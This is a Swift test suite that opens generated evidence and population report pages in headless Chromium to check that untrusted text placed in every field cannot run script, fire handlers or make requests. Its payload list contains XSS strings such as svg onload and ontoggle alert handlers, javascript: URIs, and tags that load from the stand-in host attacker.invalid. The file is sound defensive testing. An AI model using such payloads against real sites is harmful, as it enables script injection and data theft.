@testable import Evidence
import Foundation
import Ingest
import JSONKit
import Remediation
import Reports
import TestSupport
import Testing
import TransparencyLog

/// Pages that are opened in a browser which reports what they do.
///
/// Each page gets a reporter in front of everything else, and loses its content security policy: what is looked
/// for are texts that got out of their place, not whether the policy would stop them.
struct WatchedPages: ~Copyable {
  private let folder: TemporaryFolder
  private var count = 0

  init() throws {
    folder = try TemporaryFolder()
  }

  mutating func add(_ page: [UInt8]) throws {
    let html = String(decoding: page, as: UTF8.self)
      .replacing(/<meta http-equiv="Content-Security-Policy"[^>]*>/, with: "")
    let watched = html.replacing(
      "<head>", with: "<head><script>\(Self.reporter(count))</script>", maxReplacements: 1)
    try #require(watched != html && !watched.contains("Content-Security-Policy"))
    try folder.write(watched, to: "page-\(count).html")
    count += 1
  }

  /// Opens all pages in frames of one, and gives what each did.
  func open() async throws -> [[String]] {
    let frames = (0..<count).map { "<iframe src=\"page-\($0).html\" width=\"900\" height=\"300\"></iframe>" }
    try folder.write(
      """
      <!DOCTYPE html><meta charset="utf-8"><title>pages</title><script>
      const reports = {};
      addEventListener('message', event => {
        reports[event.data.page] = event.data.seen;
        document.getElementById('out').textContent = JSON.stringify(reports);
      });
      </script>\(frames.joined())<pre id="out"></pre>
      """, to: "all.html")
    let log = folder.file("net.json").path
    let result = try await PeerTool.chromium.run(
      [
        "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run",
        "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
        "--user-data-dir=\(folder.file("profile").path)", "--host-resolver-rules=MAP * ~NOTFOUND",
        "--log-net-log=\(log)", "--virtual-time-budget=20000", "--dump-dom",
        folder.file("all.html").absoluteString,
      ], timeout: .seconds(180))
    let out = try #require(result.text.firstMatch(of: /<pre id="out">(.*?)<\/pre>/.dotMatchesNewlines())?.1)
    let text = out.replacing("&lt;", with: "<").replacing("&gt;", with: ">").replacing("&amp;", with: "&")
    let reports = try JSONDecoder().decode([String: [String]].self, from: Data(text.utf8))
    try #require(reports.count == count, "\(reports.count) of \(count) pages reported: \(result.errorText)")
    let requested = try String(contentsOfFile: log, encoding: .utf8).contains("attacker.invalid")
    return (0..<count).map { (reports["\($0)"] ?? []) + (requested ? ["a request went out"] : []) }
  }

  private static func reporter(_ page: Int) -> String {
    """
    (() => {
      const seen = [], own = document.currentScript;
      for (const name of ['alert', 'confirm', 'prompt', 'open', 'print', 'fetch', 'eval'])
        window[name] = () => { seen.push('called ' + name); };
      addEventListener('error', event => {
        if (event.target !== window) seen.push('could not load something');
      }, true);
      new PerformanceObserver(list => list.getEntries().forEach(entry => seen.push('requested ' + entry.name)))
        .observe({type: 'resource', buffered: true});
      addEventListener('load', () => setTimeout(() => {
        for (const element of document.querySelectorAll('*')) {
          for (const kind of ['mouseover', 'focus', 'animationstart', 'toggle'])
            element.dispatchEvent(new Event(kind));
          if (['javascript:', 'data:', 'vbscript:', 'blob:'].includes(element.protocol))
            seen.push('link ' + element.protocol);
          for (const attribute of element.attributes)
            if (attribute.name.startsWith('on')) seen.push('handler ' + attribute.name);
        }
        for (const element of document.querySelectorAll('script, iframe, object, embed, base, form, img, svg'))
          if (element !== own) seen.push('element ' + element.localName);
        if (document.querySelector('meta[http-equiv=refresh i]')) seen.push('refresh');
        parent.postMessage({page: \(page), seen}, '*');
      }, 100));
    })();
    """
  }
}

@Suite("A browser that opens the pages runs nothing, asks nothing and fetches nothing")
struct BrowserTests {
  static let payloads =
    AttackTests.payloads + [
      "<script src=\"https://attacker.invalid/x.js\"></script>",
      "<img src=\"https://attacker.invalid/x.png\">",
      "<svg onload=alert(1)>", "\"><svg/onload=alert(1)>",
      "</textarea><iframe src=\"https://attacker.invalid/\">",
      "<link rel=stylesheet href=\"https://attacker.invalid/x.css\">",
      "<meta http-equiv=refresh content=\"0;url=https://attacker.invalid/\">",
      "<base href=\"https://attacker.invalid/\">",
      "</style><style>@import 'https://attacker.invalid/x.css'</style>",
      "<details open ontoggle=alert(1)>",
      "<form action=\"https://attacker.invalid/\"><input autofocus onfocus=alert(1)>",
      "<math><mi xlink:href=\"javascript:alert(1)\">", "<object data=\"javascript:alert(1)\">",
    ]

  /// A population with one text wherever a stranger can write.
  static func population(_ text: String) -> [UInt8] {
    var population = Population(
      scope: PopulationScope(
        asOf: Story.asOf, control: text, account: text, standard: text, requirement: text, operator: text,
        expected: [CoverageCell(account: text, region: text, standard: text)]))
    let episode = PopulationItem.Episode(
      number: 1, openedAt: Story.asOf, closedAt: nil, severity: .high, contradictions: 0, isCarriedIn: false,
      ending: .open)
    population.add(
      PopulationItem(
        key: ViolationKey(partition: text, account: text, region: text, control: text, resources: [text]),
        accountName: text, severity: .high, standards: [text], requirements: [text], findings: [],
        episodes: [episode]))
    population.coverage = [
      .init(
        cell: CoverageCell(account: text + "x", region: text, standard: text), findings: 1, firstEvent: nil,
        lastEvent: nil)
    ]
    population.files = [
      .init(
        run: 1, name: text, sha256: nil, bytes: 0, newRecords: 0, accounts: 0, regions: 0, firstEvent: nil,
        lastEvent: nil, problem: text)
    ]
    let page = PopulationPage(population, PopulationTests.provenance)
    return Reports.evidencePopulation(page: page.content)
  }

  @Test("Every page with every attack in every field", .needs(.chromium))
  func harmless() async throws {
    var pages = try WatchedPages()
    var index = PackageIndex(asOf: Story.asOf, producer: "closeout")
    for payload in Self.payloads {
      let proof = try AttackTests.readable(payload)
      try pages.add(Reports.evidencePage(page: EvidencePage(proof, producer: "closeout")))
      try pages.add(Self.population(payload))
      index.add(EvidencePackage(name: "closeout-0", bytes: [], proof: proof))
    }
    for page in index.finish() { try pages.add(page.html) }
    for (number, seen) in try await pages.open().enumerated() {
      let payload = number / 2 < Self.payloads.count ? Self.payloads[number / 2] : "index"
      #expect(seen.isEmpty, "\(payload.debugDescription): \(seen)")
    }
  }

  @Test("What watches the pages does see an attack that gets out of its place", .needs(.chromium))
  func watching() async throws {
    let attacks = [
      "<script>alert(1)</script>", "<b onmouseover=alert(1)>x</b>", "<a href=\"javascript:alert(1)\">x</a>",
      "<img src=\"https://attacker.invalid/x.png\">", "<svg onload=alert(1)></svg>",
      "<iframe src=\"about:blank\"></iframe>",
    ]
    var pages = try WatchedPages()
    for attack in attacks {
      try pages.add(
        Array("<!DOCTYPE html><html><head><title>x</title></head><body>\(attack)</body></html>".utf8))
    }
    let seen = try await pages.open()
    for (attack, seen) in zip(attacks, seen) {
      #expect(seen.contains { $0 != "a request went out" }, "\(attack)")
    }
    #expect(seen[0].contains("called alert") && seen[1].contains("called alert"))
    #expect(seen[2].contains("link javascript:") && seen[3].contains("a request went out"))
  }
}
